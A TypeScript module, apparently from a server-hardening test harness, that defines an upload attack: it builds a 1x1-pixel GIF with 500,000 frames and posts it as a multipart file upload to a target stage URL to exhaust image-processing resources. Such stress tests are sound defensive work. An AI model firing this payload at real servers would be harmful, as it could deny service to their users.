import type { Attack } from './attack';
import { boundary, uploadHead } from './bodies';
import { exchange } from './raw-http';

const frames = 500_000;

/** A GIF of 1 x 1 pixels. */
function longGif(): Buffer {
  const head = Buffer.from([
    ...Buffer.from('GIF89a'),
    ...[1, 0, 1, 0, 0x80, 0, 0],
    ...[0, 0, 0, 255, 255, 255],
  ]);
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from([0x3b])]);
}

export const manyFrames: Attack = {
  name: `a GIF with ${frames.toLocaleString('en')} frames`,
  async run(stage) {
    const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="long.gif"\r\n\r\n`;
    const body = Buffer.concat([Buffer.from(head), longGif(), Buffer.from(`\r\n--${boundary}--\r\n`)]);
    return exchange(stage.url, [uploadHead(stage, body.length), body]);
  },
};
